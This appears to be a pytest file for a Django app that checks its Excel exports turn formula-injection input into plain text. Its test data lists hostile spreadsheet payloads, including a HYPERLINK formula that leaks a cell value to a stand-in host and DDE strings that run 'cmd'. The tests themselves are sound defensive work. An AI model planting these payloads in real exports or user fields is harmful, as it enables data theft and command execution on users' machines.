"""Formula injection in Excel exports (chèn công thức vào tệp xuất Excel): a name or a comment typed as
`=HYPERLINK(…)` or `=cmd|' /C calc'!A0` reaches the user's Excel as text, in every export, read back
from the file; numbers stay numbers."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cndp.core.excel import build_workbook, neutralise_formulas, workbook_response

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))  # formulas as formulas, not cached values
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_every_trigger_becomes_visible_text_and_numbers_stay_numbers():
    wb = build_workbook("Danh sách", ["Tên", "Số"], [[text, -5] for text in HOSTILE] + [["Bình thường", 1.5]])
    assert any(cell.data_type == "f" for row in wb.active.iter_rows() for cell in row)  # openpyxl's default
    response = workbook_response(wb, "x")
    cells = _cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_text = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in HOSTILE:
        assert by_text[text].data_type == "s" and by_text[text].quotePrefix
    numbers = [c.value for c in cells if c.column == 2 and c.row > 3]
    assert numbers == [-5] * len(HOSTILE) + [1.5]
    assert not by_text["Bình thường"].quotePrefix


def test_a_formula_set_directly_is_written_as_its_text():
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.create_sheet("Hai")["B2"] = "=cmd|' /C calc'!A0"
    assert neutralise_formulas(wb) == 2
    buffer = io.BytesIO()
    wb.save(buffer)
    values = {(c.parent.title, c.coordinate): (c.value, c.data_type) for c in _cells(buffer.getvalue())}
    assert values[("Sheet", "A1")] == ("=1+1", "s")
    assert values[("Hai", "B2")] == ("=cmd|' /C calc'!A0", "s")


@pytest.mark.django_db
def test_the_project_member_and_synthesis_exports_hold_no_formula(demo, client_for):
    from cndp.congress.models import Comment
    from cndp.extension.models import Project
    from cndp.party.models import Member

    project = Project.objects.order_by("pk").first()
    Project.objects.filter(pk=project.pk).update(name=HOSTILE[0])
    member = Member.objects.order_by("pk").first()
    Member.objects.filter(pk=member.pk).update(full_name=HOSTILE[1])
    comment = Comment.objects.order_by("pk").first()
    Comment.objects.filter(pk=comment.pk).update(content=HOSTILE[4])

    exports = [
        (
            client_for("agency_officer"),
            reverse("extension:project_list"),
            {"q": project.code, "export": "xlsx"},
        ),
        (client_for("party_officer"), reverse("party:member_list"), {"export": "xlsx"}),
        (
            client_for("leader"),
            reverse("congress:document_synthesis_xlsx", args=[comment.section.document_id]),
            {},
        ),
    ]
    for (client, url, query), text in zip(exports, (HOSTILE[0], HOSTILE[1], HOSTILE[4]), strict=True):
        response = client.get(url, query)
        assert response.status_code == 200, url
        cells = _cells(response.content)
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        assert text in [c.value for c in cells], url
